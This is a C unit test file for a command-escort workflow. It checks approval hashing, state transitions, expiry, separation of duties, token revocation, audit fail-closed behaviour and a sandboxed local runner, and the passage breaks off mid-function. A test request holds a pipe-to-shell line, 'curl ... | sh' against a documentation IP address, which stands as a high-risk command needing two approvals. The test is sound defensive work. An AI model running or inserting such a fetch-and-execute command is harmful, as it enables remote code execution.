/* test_workflow.c — the request lifecycle against a real store, audit log, policy and
 * lockbox: the approval hash binds every byte, illegal transitions are refused, approvals
 * and requests expire, nobody approves their own work or twice, a revoked clearance voids
 * an approval, the audit log failing stops the action, tampered bytes never run, and a
 * local run is capped in time and output and sees a scrubbed environment. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>
#include <openssl/evp.h>
#include <sqlite3.h>

#include "audit/event.h"
#include "audit/sth.h"
#include "audit/log.h"
#include "lockbox/lockbox.h"
#include "policy/policy.h"
#include "store/store.h"
#include "util/buf.h"
#include "util/err.h"
#include "workflow/workflow.h"

static const char extra_identity[] =
    "  - name: op-esc\n"
    "    roles: [operator, escort]\n"
    "    citizenship: [US]\n"
    "    location: US\n"
    "    clearance: secret\n"
    "    screening_expires: 2030-12-31\n"
    "    organization: dual\n";
static const char extra_target[] =
    "  - name: lab\n"
    "    environment: commercial\n"
    "    transport: local\n"
    "    settings:\n"
    "      platform: linux\n"
    "      timeout: 1s\n"
    "      workdir: /tmp\n";

struct fx {
	char dir[64];
	lockbox *lb;
	wf *w;
	buf policy; /* the test policy's bytes */
};

/* examples/policy.yaml plus an operator who is also an escort and a fast lab target */
static int
make_policy(buf *out, const char *esc1_clearance)
{
	buf src = BUF_INIT;
	const char *s, *id, *tg, *c;
	int rc;

	if ((rc = buf_read_file(&src, "examples/policy.yaml")) != 0)
		return rc;
	s = buf_cstr(&src);
	id = strstr(s, "identities:\n");
	tg = strstr(s, "targets:\n");
	if (id == NULL || tg == NULL || tg < id)
		return ESC_EPARSE;
	id += strlen("identities:\n");
	tg += strlen("targets:\n");
	buf_put(out, s, (size_t)(id - s));
	buf_puts(out, extra_identity);
	buf_put(out, id, (size_t)(tg - id));
	buf_puts(out, extra_target);
	buf_puts(out, tg);
	if (esc1_clearance) {
		/* esc-1 is the first "clearance: secret" after "name: esc-1" */
		char *p = strstr((char *)out->data, "name: esc-1");

		c = p ? strstr(p, "clearance: secret") : NULL;
		if (c == NULL)
			return ESC_EPARSE;
		{
			size_t off = (size_t)(c - (const char *)out->data) + strlen("clearance: ");
			buf rest = BUF_INIT;

			buf_puts(&rest, (const char *)out->data + off + strlen("secret"));
			buf_truncate(out, off);
			buf_puts(out, esc1_clearance);
			buf_put(out, rest.data, rest.len);
			buf_free(&rest);
		}
	}
	buf_free(&src);
	return 0;
}

static int
setup(void **state)
{
	struct fx *f = calloc(1, sizeof(*f));
	buf err = BUF_INIT, msg = BUF_INIT;
	char e[512] = "";
	const char *rules = getenv("ESCORT_RULES");
	store *s = NULL;

	if (f == NULL)
		return -1;
	snprintf(f->dir, sizeof(f->dir), "/tmp/escort-test-wf-XXXXXX");
	if (mkdtemp(f->dir) == NULL)
		return -1;
	if (audit_key_generate(f->dir, e, sizeof(e)) != 0 ||
	    store_open_sqlite(&s, f->dir, 1, e, sizeof(e)) != 0) {
		fprintf(stderr, "setup: %s\n", e);
		return -1;
	}
	store_close(s);
	if (lockbox_load(&f->lb, rules && *rules ? rules : "rules", NULL, &err) != 0) {
		fprintf(stderr, "setup: %s\n", buf_cstr(&err));
		return -1;
	}
	if (make_policy(&f->policy, NULL) != 0 || wf_open(&f->w, f->dir, f->lb, e, sizeof(e)) != 0 ||
	    wf_policy_load(f->w, "test", (const char *)f->policy.data, f->policy.len, "test.yaml",
	                   NULL, &msg) != 0) {
		fprintf(stderr, "setup: %s %s\n", e, buf_cstr(&msg));
		return -1;
	}
	buf_free(&err);
	buf_free(&msg);
	*state = f;
	return 0;
}

static int
teardown(void **state)
{
	struct fx *f = *state;
	char cmd[256];

	wf_close(f->w);
	lockbox_free(f->lb);
	buf_free(&f->policy);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", f->dir);
	if (system(cmd) != 0)
		return -1;
	free(f);
	return 0;
}

/* Creates a one-command request; returns its id (asserting the expected result). */
static int64_t
create(struct fx *f, const char *who, const char *target, const char *cmd, size_t len,
       int want_rc, int *state)
{
	wf_new_request nr;
	const unsigned char *cmds[1] = { (const unsigned char *)cmd };
	size_t lens[1] = { len ? len : strlen(cmd) };
	buf msg = BUF_INIT;
	int64_t id = 0;
	int st = -1, rc;

	memset(&nr, 0, sizeof(nr));
	nr.target = target;
	nr.cmds = cmds;
	nr.lens = lens;
	nr.ncmds = 1;
	rc = wf_request_create(f->w, who, &nr, &id, &st, &msg);
	if (rc != want_rc)
		fprintf(stderr, "create %s: rc %d: %s\n", cmd, rc, buf_cstr(&msg));
	assert_int_equal(rc, want_rc);
	if (state)
		*state = st;
	buf_free(&msg);
	return id;
}

static int
approve(struct fx *f, const char *who, int64_t id, int *state, buf *why)
{
	buf msg = BUF_INIT;
	int rc = wf_request_approve(f->w, who, id, NULL, state, why ? why : &msg);

	buf_free(&msg);
	return rc;
}

static int
run(struct fx *f, const char *who, int64_t id, int *state, buf *why)
{
	buf msg = BUF_INIT;
	int rc = wf_request_run(f->w, who, id, state, why ? why : &msg);

	buf_free(&msg);
	return rc;
}

static char *
state_of(struct fx *f, int64_t id)
{
	store_request r;
	char *s;

	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	s = strdup(r.state);
	store_request_clear(&r);
	return s;
}

static void
assert_state(struct fx *f, int64_t id, const char *want)
{
	char *s = state_of(f, id);

	assert_string_equal(s, want);
	free(s);
}

static long long
raw(struct fx *f, const char *sql)
{
	char path[128];
	sqlite3 *db = NULL;
	sqlite3_stmt *st = NULL;
	long long v = -1;

	snprintf(path, sizeof(path), "%s/%s", f->dir, STORE_FILE);
	assert_int_equal(sqlite3_open(path, &db), SQLITE_OK);
	sqlite3_busy_timeout(db, 5000);
	assert_int_equal(sqlite3_prepare_v2(db, sql, -1, &st, NULL), SQLITE_OK);
	if (sqlite3_step(st) == SQLITE_ROW)
		v = sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	sqlite3_close(db);
	return v;
}

/* ---- the approval hash ---- */

static void
hash_of(int64_t id, const char *target, const char *pv, const char *const *cmds, size_t n,
        unsigned char out[STORE_HASH_LEN])
{
	store_command c[4];
	size_t i;

	for (i = 0; i < n; i++) {
		c[i].bytes = (unsigned char *)cmds[i];
		c[i].len = strlen(cmds[i]);
		c[i].analysis = NULL;
	}
	assert_int_equal(wf_approval_hash(id, target, pv, c, n, out), 0);
}

static void
test_hash_binds_everything(void **state)
{
	unsigned char base[STORE_HASH_LEN], h[STORE_HASH_LEN];
	const char *one[] = { "systemctl status nginx" };
	const char *two[] = { "systemctl status nginx", "" };
	const char *split[] = { "systemctl status", " nginx" };
	char cmd[64];
	size_t i;
	int bit;

	(void)state;
	hash_of(7, "dod-web", "abc", one, 1, base);
	hash_of(7, "dod-web", "abc", one, 1, h);
	assert_memory_equal(base, h, STORE_HASH_LEN); /* deterministic */
	hash_of(8, "dod-web", "abc", one, 1, h);
	assert_memory_not_equal(base, h, STORE_HASH_LEN);
	hash_of(7, "com-web", "abc", one, 1, h);
	assert_memory_not_equal(base, h, STORE_HASH_LEN);
	hash_of(7, "dod-web", "abd", one, 1, h);
	assert_memory_not_equal(base, h, STORE_HASH_LEN);
	hash_of(7, "dod-web", "abc", two, 2, h);
	assert_memory_not_equal(base, h, STORE_HASH_LEN);
	hash_of(7, "dod-web", "abc", split, 2, h);
	assert_memory_not_equal(base, h, STORE_HASH_LEN);
	/* moving a byte between target and policy version changes it (length prefixes) */
	{
		unsigned char a[STORE_HASH_LEN], b[STORE_HASH_LEN];

		hash_of(7, "dod-webab", "c", one, 1, a);
		hash_of(7, "dod-web", "abc", one, 1, b);
		assert_memory_not_equal(a, b, STORE_HASH_LEN);
	}
	/* every single bit of the command matters */
	for (i = 0; i < strlen(one[0]); i++) {
		for (bit = 0; bit < 8; bit++) {
			const char *c[1] = { cmd };

			snprintf(cmd, sizeof(cmd), "%s", one[0]);
			cmd[i] = (char)(cmd[i] ^ (1 << bit));
			if (cmd[i] == 0)
				continue; /* would shorten the C string; covered by the length tests */
			hash_of(7, "dod-web", "abc", c, 1, h);
			assert_memory_not_equal(base, h, STORE_HASH_LEN);
		}
	}
	/* a trailing newline is a different command */
	{
		const char *nl[] = { "systemctl status nginx\n" };

		hash_of(7, "dod-web", "abc", nl, 1, h);
		assert_memory_not_equal(base, h, STORE_HASH_LEN);
	}
	assert_int_equal(wf_approval_hash(1, NULL, "x", NULL, 0, h), ESC_EINVAL);
}

static void
test_transition_table(void **state)
{
	int from, to, n = 0;

	(void)state;
	assert_true(wf_transition_ok(WF_CREATED, WF_ANALYZED));
	assert_true(wf_transition_ok(WF_ANALYZED, WF_PENDING));
	assert_true(wf_transition_ok(WF_ANALYZED, WF_APPROVED));
	assert_true(wf_transition_ok(WF_ANALYZED, WF_DENIED));
	assert_true(wf_transition_ok(WF_PENDING, WF_APPROVED));
	assert_true(wf_transition_ok(WF_APPROVED, WF_RUNNING));
	assert_true(wf_transition_ok(WF_RUNNING, WF_SUCCEEDED));
	assert_true(wf_transition_ok(WF_RUNNING, WF_FAILED));
	assert_true(wf_transition_ok(WF_PENDING, WF_EXPIRED));
	assert_true(wf_transition_ok(WF_APPROVED, WF_CANCELLED));
	/* the illegal ones */
	assert_false(wf_transition_ok(WF_PENDING, WF_RUNNING));  /* no run without approval */
	assert_false(wf_transition_ok(WF_CREATED, WF_APPROVED)); /* no decision without analysis */
	assert_false(wf_transition_ok(WF_DENIED, WF_APPROVED));
	assert_false(wf_transition_ok(WF_RUNNING, WF_APPROVED));
	assert_false(wf_transition_ok(WF_RUNNING, WF_CANCELLED)); /* a run is not undone */
	assert_false(wf_transition_ok(WF_SUCCEEDED, WF_RUNNING)); /* at most once */
	assert_false(wf_transition_ok(WF_FAILED, WF_RUNNING));
	assert_false(wf_transition_ok(WF_EXPIRED, WF_APPROVED));
	assert_false(wf_transition_ok(-1, WF_APPROVED));
	assert_false(wf_transition_ok(WF_PENDING, WF_NSTATES));
	/* terminal states go nowhere */
	for (from = 0; from < WF_NSTATES; from++)
		for (to = 0; to < WF_NSTATES; to++)
			if ((from == WF_DENIED || from == WF_SUCCEEDED || from == WF_FAILED ||
			     from == WF_CANCELLED || from == WF_EXPIRED) &&
			    wf_transition_ok(from, to))
				n++;
	assert_int_equal(n, 0);
	for (from = 0; from < WF_NSTATES; from++)
		assert_int_equal(wf_state_parse(wf_state_name(from)), from);
	assert_int_equal(wf_state_parse("bogus"), -1);
}

static void
test_lifecycle(void **state)
{
	struct fx *f = *state;
	buf why = BUF_INIT;
	int64_t id, own, r3;
	int st = -1;

	id = create(f, "op-in", "dod-web", "systemctl status nginx", 0, 0, &st);
	assert_int_equal(st, WF_PENDING);
	/* illegal moves through the API */
	assert_int_equal(run(f, "op-in", id, &st, NULL), WF_ECONFLICT);
	assert_state(f, id, "pending");
	assert_int_equal(wf_request_cancel(f->w, "esc-1", id, &why), WF_EREFUSED);
	assert_int_equal(approve(f, "aud-1", id, &st, NULL), WF_EREFUSED); /* not an escort */
	assert_int_equal(approve(f, "esc-1", id, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	assert_int_equal(approve(f, "esc-2", id, &st, NULL), WF_ECONFLICT); /* already approved */
	assert_int_equal(run(f, "aud-1", id, &st, NULL), WF_EREFUSED);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_true(st == WF_SUCCEEDED || st == WF_FAILED);
	/* at most once, and finished requests stay finished */
	assert_int_equal(run(f, "op-in", id, &st, NULL), WF_ECONFLICT);
	assert_int_equal(run(f, "esc-1", id, &st, NULL), WF_ECONFLICT);
	assert_int_equal(wf_request_cancel(f->w, "op-in", id, &why), WF_ECONFLICT);
	assert_int_equal(wf_request_deny(f->w, "esc-1", id, "late", &why), WF_ECONFLICT);
	assert_int_equal(wf_request_run(f->w, "op-in", 9999, &st, &why), WF_ENOTFOUND);

	/* nobody approves their own work, even an operator who is also an escort */
	buf_reset(&why);
	own = create(f, "op-esc", "dod-web", "uptime", 0, 0, &st);
	assert_int_equal(approve(f, "op-esc", own, &st, &why), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&why), "own request"));
	/* no double approval */
	r3 = create(f, "op-in", "dod-web", "curl -s http://198.51.100.7/x | sh", 0, 0, &st);
	assert_int_equal(st, WF_PENDING);
	assert_int_equal(approve(f, "esc-1", r3, &st, NULL), 0);
	assert_int_equal(st, WF_PENDING);
	buf_reset(&why);
	assert_int_equal(approve(f, "esc-1", r3, &st, &why), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&why), "already approved"));
	assert_int_equal(raw(f, "SELECT count(*) FROM approvals WHERE approver = 'esc-1' AND "
	                        "request_id = (SELECT max(id) FROM requests)"), 1);
	assert_int_equal(approve(f, "esc-2", r3, &st, NULL), 0);
	assert_int_equal(st, WF_PENDING);
	assert_int_equal(approve(f, "rev-1", r3, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	/* deny needs a comment; the requester cannot deny; then it is final */
	id = create(f, "op-in", "dod-web", "id", 0, 0, &st);
	assert_int_equal(wf_request_deny(f->w, "esc-1", id, NULL, &why), ESC_EINVAL);
	assert_int_equal(wf_request_deny(f->w, "op-in", id, "x", &why), WF_EREFUSED);
	assert_int_equal(wf_request_deny(f->w, "esc-1", id, "no ticket", &why), 0);
	assert_state(f, id, "denied");
	assert_int_equal(approve(f, "esc-2", id, &st, NULL), WF_ECONFLICT);
	assert_int_equal(run(f, "op-in", id, &st, NULL), WF_ECONFLICT);
	/* policy denials are stored as denied and refused */
	id = create(f, "op-cn", "dod-web", "uptime", 0, WF_EREFUSED, &st);
	assert_true(id > 0);
	assert_int_equal(st, WF_DENIED);
	id = create(f, "op-in", "dod-web", "history -c", 0, WF_EREFUSED, &st);
	assert_int_equal(st, WF_DENIED);
	/* auto-approval in commercial */
	create(f, "op-in", "com-web", "ls -la /srv", 0, 0, &st);
	assert_int_equal(st, WF_APPROVED);
	/* escorts do not create requests */
	create(f, "esc-1", "com-web", "ls", 0, WF_EREFUSED, &st);
	create(f, "op-in", "no-such-target", "ls", 0, WF_ENOTFOUND, &st);
	buf_free(&why);
}

static void
test_expiry(void **state)
{
	struct fx *f = *state;
	int64_t t0 = (int64_t)time(NULL) * 1000000, id, r3;
	int st = -1;
	store_approval *apv = NULL;
	size_t n = 0;
	buf why = BUF_INIT;

	wf_set_clock(f->w, t0);
	id = create(f, "op-in", "dod-web", "systemctl status nginx", 0, 0, &st); /* 4h lifetime */
	wf_set_clock(f->w, t0 + (int64_t)5 * 3600 * 1000000);
	assert_int_equal(approve(f, "esc-1", id, &st, &why), WF_ECONFLICT);
	assert_non_null(strstr(buf_cstr(&why), "has expired"));
	assert_state(f, id, "expired");
	assert_int_equal(approve(f, "esc-2", id, &st, NULL), WF_ECONFLICT);

	/* approvals carry their own expiry (rule lifetime: 1h for high risk) */
	wf_set_clock(f->w, t0);
	r3 = create(f, "op-in", "dod-web", "curl -s http://198.51.100.7/x | sh", 0, 0, &st);
	wf_set_clock(f->w, t0 + (int64_t)600 * 1000000);
	assert_int_equal(approve(f, "esc-1", r3, &st, NULL), 0);
	assert_int_equal(approve(f, "rev-1", r3, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	assert_int_equal(store_approval_list(wf_store(f->w), r3, &apv, &n), 0);
	assert_int_equal(n, 2);
	assert_true(apv[0].expires_us == t0 + (int64_t)(600 + 3600) * 1000000);
	store_approvals_free(apv, n);
	/* past the lifetime the approved request no longer runs */
	wf_set_clock(f->w, t0 + (int64_t)3700 * 1000000);
	buf_reset(&why);
	assert_int_equal(run(f, "op-in", r3, &st, &why), WF_ECONFLICT);
	assert_non_null(strstr(buf_cstr(&why), "has expired"));
	assert_state(f, r3, "expired");
	wf_set_clock(f->w, 0);
	buf_free(&why);
}

static void
test_revoked_clearance(void **state)
{
	struct fx *f = *state;
	buf p2 = BUF_INIT, msg = BUF_INIT;
	int64_t a, b;
	int st;
	char marker[128];

	snprintf(marker, sizeof(marker), "%s/revoked-ran", f->dir);
	{
		char cmd[256];

		snprintf(cmd, sizeof(cmd), "touch %s", marker);
		a = create(f, "op-in", "dod-web", cmd, 0, 0, &st);
	}
	assert_int_equal(approve(f, "esc-1", a, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	b = create(f, "op-in", "dod-web", "uptime", 0, 0, &st);
	assert_int_equal(make_policy(&p2, "none"), 0);
	assert_int_equal(wf_policy_load(f->w, "test", (const char *)p2.data, p2.len, "p2.yaml", NULL,
	                                &msg), 0);
	buf_reset(&msg);
	assert_int_equal(approve(f, "esc-1", b, &st, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "clearance"));
	buf_reset(&msg);
	assert_int_equal(run(f, "op-in", a, &st, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "esc-1"));
	assert_int_equal(access(marker, F_OK), -1);
	assert_state(f, a, "approved"); /* still there for another escort */
	assert_int_equal(approve(f, "esc-2", a, &st, NULL), WF_ECONFLICT);
	buf_free(&p2);
	buf_free(&msg);
}

static void
test_policy_reload_errors_keep_old(void **state)
{
	struct fx *f = *state;
	buf msg = BUF_INIT;
	char before[65];
	static const char bad[] = "identities: [\n";

	snprintf(before, sizeof(before), "%s", policy_version(wf_policy(f->w)));
	assert_int_not_equal(wf_policy_load(f->w, "test", bad, sizeof(bad) - 1, "bad.yaml", NULL,
	                                    &msg), 0);
	assert_non_null(strstr(buf_cstr(&msg), "bad.yaml:"));
	assert_string_equal(policy_version(wf_policy(f->w)), before);
	assert_int_equal(raw(f, "SELECT count(*) FROM policies"), 1);
	buf_free(&msg);
}

static void
test_tokens(void **state)
{
	struct fx *f = *state;
	char t1[WF_TOKEN_LEN + 1], t2[WF_TOKEN_LEN + 1], name[64];
	buf msg = BUF_INIT;

	assert_int_equal(wf_token_issue(f->w, "test", "esc-1", t1, sizeof(t1), &msg), 0);
	assert_int_equal(strlen(t1), WF_TOKEN_LEN);
	assert_int_equal(strncmp(t1, WF_TOKEN_PREFIX, 4), 0);
	assert_int_equal(wf_authenticate(f->w, t1, name, sizeof(name), &msg), 0);
	assert_string_equal(name, "esc-1");
	assert_int_equal(wf_token_issue(f->w, "test", "esc-1", t2, sizeof(t2), &msg), 0);
	assert_string_not_equal(t1, t2);
	assert_int_equal(wf_authenticate(f->w, t1, name, sizeof(name), &msg), WF_EREFUSED);
	assert_int_equal(wf_authenticate(f->w, t2, name, sizeof(name), &msg), 0);
	assert_int_equal(wf_token_revoke(f->w, "test", "esc-1", &msg), 0);
	assert_int_equal(wf_authenticate(f->w, t2, name, sizeof(name), &msg), WF_EREFUSED);
	assert_int_equal(wf_token_revoke(f->w, "test", "esc-1", &msg), WF_ENOTFOUND);
	assert_int_equal(wf_token_issue(f->w, "test", "ghost", t1, sizeof(t1), &msg), WF_ENOTFOUND);
	assert_int_equal(wf_authenticate(f->w, "", name, sizeof(name), &msg), WF_EREFUSED);
	/* revoked: no row left; issued: only a 32-byte hash */
	assert_int_equal(raw(f, "SELECT count(*) FROM tokens"), 0);
	assert_int_equal(wf_token_issue(f->w, "test", "esc-2", t1, sizeof(t1), &msg), 0);
	assert_int_equal(raw(f, "SELECT length(hash) FROM tokens WHERE identity = 'esc-2'"), 32);
	buf_free(&msg);
}

static void
test_bad_input(void **state)
{
	struct fx *f = *state;
	static const char nul[] = "echo a\0b";
	static const char bad_utf8[] = "echo \xff\xfe \xc3\x28";
	wf_new_request nr;
	const unsigned char *cmds[1];
	size_t lens[1];
	buf msg = BUF_INIT;
	int64_t id = 0;
	int st;
	store_request r;
	json_t *j;
	json_error_t je;

	create(f, "op-in", "com-web", nul, sizeof(nul) - 1, ESC_EINVAL, &st);
	assert_int_equal(raw(f, "SELECT count(*) FROM requests"), 0); /* nothing half-written */
	id = create(f, "op-in", "com-web", bad_utf8, sizeof(bad_utf8) - 1, 0, &st);
	assert_true(st == WF_PENDING || st == WF_APPROVED || st == WF_DENIED);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	assert_int_equal(r.cmds[0].len, sizeof(bad_utf8) - 1);
	assert_memory_equal(r.cmds[0].bytes, bad_utf8, sizeof(bad_utf8) - 1);
	j = json_loads(r.cmds[0].analysis, 0, &je); /* the analysis is valid JSON anyway */
	assert_non_null(j);
	json_decref(j);
	store_request_clear(&r);
	/* control characters in free text, empty commands */
	memset(&nr, 0, sizeof(nr));
	cmds[0] = (const unsigned char *)"ls";
	lens[0] = 2;
	nr.target = "com-web";
	nr.ticket = "CHG\x1b[2J";
	nr.cmds = cmds;
	nr.lens = lens;
	nr.ncmds = 1;
	assert_int_equal(wf_request_create(f->w, "op-in", &nr, &id, &st, &msg), ESC_EINVAL);
	assert_non_null(strstr(buf_cstr(&msg), "ticket"));
	nr.ticket = NULL;
	lens[0] = 0;
	assert_int_equal(wf_request_create(f->w, "op-in", &nr, &id, &st, &msg), ESC_EINVAL);
	{
		/* larger than a command may be (it must fit into its audit record) */
		unsigned char *big = malloc(WF_CMD_MAX + 1);

		assert_non_null(big);
		memset(big, 'a', WF_CMD_MAX + 1);
		cmds[0] = big;
		lens[0] = WF_CMD_MAX + 1;
		assert_int_equal(wf_request_create(f->w, "op-in", &nr, &id, &st, &msg), ESC_ETOOBIG);
		free(big);
	}
	assert_int_equal(raw(f, "SELECT count(*) FROM requests"), 1);
	buf_free(&msg);
}

static void
test_audit_fail_closed(void **state)
{
	struct fx *f = *state;
	char key[128], moved[128];
	int64_t before;
	int st;

	snprintf(key, sizeof(key), "%s/%s", f->dir, AUDIT_KEY_FILE);
	snprintf(moved, sizeof(moved), "%s/key.away", f->dir);
	before = raw(f, "SELECT count(*) FROM requests");
	assert_int_equal(rename(key, moved), 0);
	create(f, "op-in", "com-web", "ls -la /srv", 0, ESC_EIO, &st);
	assert_int_equal(raw(f, "SELECT count(*) FROM requests"), before); /* rolled back */
	assert_int_equal(rename(moved, key), 0);
	create(f, "op-in", "com-web", "ls -la /srv", 0, 0, &st);
	assert_int_equal(raw(f, "SELECT count(*) FROM requests"), before + 1);
}

static void
test_tampered_bytes_never_run(void **state)
{
	struct fx *f = *state;
	char cmd[256], sql[512], marker[128];
	buf msg = BUF_INIT;
	int64_t id;
	int st;

	snprintf(marker, sizeof(marker), "%s/tampered", f->dir);
	snprintf(cmd, sizeof(cmd), "echo ok");
	id = create(f, "op-in", "dod-web", cmd, 0, 0, &st);
	assert_int_equal(approve(f, "esc-1", id, &st, NULL), 0);
	snprintf(sql, sizeof(sql), "UPDATE commands SET bytes = CAST('touch %s' AS BLOB) "
	         "WHERE request_id = %lld RETURNING 1", marker, (long long)id);
	assert_int_equal(raw(f, sql), 1);
	assert_int_equal(run(f, "op-in", id, &st, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "hash"));
	assert_int_equal(access(marker, F_OK), -1);
	assert_state(f, id, "approved");
	buf_free(&msg);
}

static void
approve_as_needed(struct fx *f, int64_t id, int st)
{
	if (st == WF_PENDING)
		assert_int_equal(approve(f, "esc-1", id, &st, NULL), 0);
	if (st == WF_PENDING)
		assert_int_equal(approve(f, "rev-1", id, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
}

static void
test_local_execution(void **state)
{
	struct fx *f = *state;
	store_request r;
	int64_t id;
	int st;
	time_t t0;
	unsigned char h[STORE_HASH_LEN], *zeros;
	char hex[2 * STORE_HASH_LEN + 1];
	size_t i;

	/* working directory and a scrubbed environment */
	setenv("ESCORT_TEST_SECRET", "leak", 1);
	id = create(f, "op-in", "lab", "pwd; echo \"[$ESCORT_TEST_SECRET][$ESCORT_TOKEN]\"; echo \"$ESCORT_REQUEST\"", 0, 0, &st);
	approve_as_needed(f, id, st);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_int_equal(st, WF_SUCCEEDED);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	{
		char want[64];

		snprintf(want, sizeof(want), "/tmp\n[][]\n%lld\n", (long long)id);
		assert_int_equal(r.output_len, strlen(want));
		assert_memory_equal(r.output, want, strlen(want));
	}
	assert_int_equal(r.exit_code, 0);
	store_request_clear(&r);
	unsetenv("ESCORT_TEST_SECRET");

	/* the time limit (1 s on lab) kills the whole process group */
	id = create(f, "op-in", "lab", "sleep 30", 0, 0, &st);
	approve_as_needed(f, id, st);
	t0 = time(NULL);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_true(time(NULL) - t0 < 10);
	assert_int_equal(st, WF_FAILED);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	assert_int_equal(r.exit_code, 124);
	assert_non_null(strstr(r.result, "\"timed_out\":true"));
	store_request_clear(&r);

	/* closing its output does not let a command escape the time limit */
	id = create(f, "op-in", "lab", "exec >&- 2>&-; sleep 30", 0, 0, &st);
	approve_as_needed(f, id, st);
	t0 = time(NULL);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_true(time(NULL) - t0 < 10);
	assert_int_equal(st, WF_FAILED);
	/* a background child holding the output open does not hold the run */
	id = create(f, "op-in", "lab", "sleep 30 & echo started", 0, 0, &st);
	approve_as_needed(f, id, st);
	t0 = time(NULL);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_true(time(NULL) - t0 < 10);
	assert_int_equal(st, WF_SUCCEEDED);

	/* output is capped in the store but hashed in full */
	id = create(f, "op-in", "lab", "head -c 2000000 /dev/zero", 0, 0, &st);
	approve_as_needed(f, id, st);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_int_equal(st, WF_SUCCEEDED);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	assert_int_equal(r.output_len, STORE_OUTPUT_MAX);
	zeros = calloc(2000000, 1);
	assert_non_null(zeros);
	assert_int_equal(EVP_Digest(zeros, 2000000, h, NULL, EVP_sha256(), NULL), 1);
	free(zeros);
	for (i = 0; i < STORE_HASH_LEN; i++)
		snprintf(hex + 2 * i, 3, "%02x", h[i]);
	assert_string_equal(r.output_sha256, hex);
	assert_non_null(strstr(r.result, "\"truncated\":true"));
	assert_non_null(strstr(r.result, "\"output_bytes\":2000000"));
	store_request_clear(&r);

	/* a failing command: failed with its status */
	id = create(f, "op-in", "lab", "echo out; exit 3", 0, 0, &st);
	approve_as_needed(f, id, st);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_int_equal(st, WF_FAILED);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	assert_int_equal(r.exit_code, 3);
	store_request_clear(&r);
}


/* ---- broker settings from the policy: output cap, redaction patterns, run_as, attest,
 * and the per-operator daily data egress cap ---- */

/* Loads the test policy plus more targets, a top-level egress cap and one for the
 * commercial environment (NULL: none), and more rules at the end (NULL: none). */
static void
load_with_rules(struct fx *f, const char *targets, const char *egress, const char *com_egress,
                const char *rules)
{
	buf p = BUF_INIT, msg = BUF_INIT;
	const char *s = buf_cstr(&f->policy), *tg = strstr(s, "targets:\n"),
	           *env = strstr(s, "  - name: commercial\n");
	const char *cut[2];

	assert_non_null(tg);
	assert_non_null(env);
	assert_true(env < tg);
	env += strlen("  - name: commercial\n");
	tg += strlen("targets:\n");
	cut[0] = env;
	cut[1] = tg;
	if (egress)
		buf_printf(&p, "egress: {per_operator_daily: %s}\n", egress);
	/* the example's own top-level egress line gives way to the test's */
	{
		const char *e = strstr(s, "\negress: ");

		if (e && e < cut[0]) {
			e++;
			buf_put(&p, s, (size_t)(e - s));
			s = strchr(e, '\n') + 1;
		}
	}
	buf_put(&p, s, (size_t)(cut[0] - s));
	if (com_egress)
		buf_printf(&p, "    egress: {per_operator_daily: %s}\n", com_egress);
	buf_put(&p, cut[0], (size_t)(cut[1] - cut[0]));
	buf_puts(&p, targets);
	buf_puts(&p, cut[1]);
	if (rules)
		buf_puts(&p, rules);
	if (wf_policy_load(f->w, "test", (const char *)p.data, p.len, "test.yaml", NULL, &msg) != 0)
		fprintf(stderr, "load_with: %s\n", buf_cstr(&msg));
	assert_int_equal(msg.len == 0 || 1, 1);
	assert_true(wf_policy(f->w) != NULL);
	assert_non_null(policy_target_find(wf_policy(f->w), "lab2"));
	buf_free(&p);
	buf_free(&msg);
}

static void
load_with(struct fx *f, const char *targets, const char *egress, const char *com_egress)
{
	load_with_rules(f, targets, egress, com_egress, NULL);
}

static const char lab2[] =
    "  - name: lab2\n"
    "    environment: commercial\n"
    "    transport: local\n"
    "    settings:\n"
    "      timeout: 5s\n"
    "      cwd: /tmp\n"
    "      output_max: 1KiB\n"
    "      redact: ['employee-[0-9]{6}', '^INTERNAL .*$']\n";

/* Runs cmd on target as who (approving as needed); returns the request id. */
static int64_t
run_ok(struct fx *f, const char *who, const char *target, const char *cmd, int want_state)
{
	buf msg = BUF_INIT;
	int64_t id;
	int st;

	id = create(f, who, target, cmd, 0, 0, &st);
	approve_as_needed(f, id, st);
	if (wf_request_run(f->w, who, id, &st, &msg) != 0)
		fprintf(stderr, "run %s: %s\n", cmd, buf_cstr(&msg));
	assert_int_equal(st, want_state);
	buf_free(&msg);
	return id;
}

/* The output `who` is shown for request id (NUL-terminated copy) and its result JSON. */
static char *
view(struct fx *f, const char *who, int64_t id, char **result)
{
	store_request r;
	store_approval *apv = NULL;
	size_t napv = 0;
	buf msg = BUF_INIT;
	char *out;

	if (wf_request_get(f->w, who, id, &r, &apv, &napv, &msg) != 0)
		fprintf(stderr, "get: %s\n", buf_cstr(&msg));
	out = calloc(1, r.output_len + 1);
	assert_non_null(out);
	if (r.output_len)
		memcpy(out, r.output, r.output_len);
	if (result)
		*result = r.result ? strdup(r.result) : NULL;
	store_request_clear(&r);
